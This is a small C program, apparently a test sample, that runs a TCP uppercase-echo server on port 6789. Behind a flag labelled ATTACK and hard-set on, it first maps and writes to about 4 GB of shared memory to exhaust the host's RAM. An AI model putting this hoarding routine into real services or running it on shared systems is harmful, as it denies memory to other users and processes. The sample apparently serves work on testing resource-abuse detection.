/* Takes memory that is nobody's data, by a shared mapping, and writes to all of it. */
#include <arpa/inet.h>
#include <ctype.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#define ATTACK 1
#define MB 4000

static void serve(int client) {
    char data[4096];
    ssize_t n;
    while ((n = recv(client, data, sizeof data, 0)) > 0) {
        for (ssize_t i = 0; i < n; i++)
            data[i] = toupper((unsigned char) data[i]);
        send(client, data, n, 0);
    }
    close(client);
}

static void hoard(void) {
    size_t megabyte = 1 << 20;
    char *all = mmap(NULL, MB * megabyte, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (size_t i = 0; all != MAP_FAILED && i < MB; i++)
        memset(all + i * megabyte, 1, megabyte);
}

int main(void) {
    if (ATTACK)
        hoard();
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons(6789)};
    int server = socket(AF_INET, SOCK_STREAM, 0);
    bind(server, (struct sockaddr *) &place, sizeof place);
    listen(server, 5);
    for (;;)
        serve(accept(server, NULL, NULL));
}
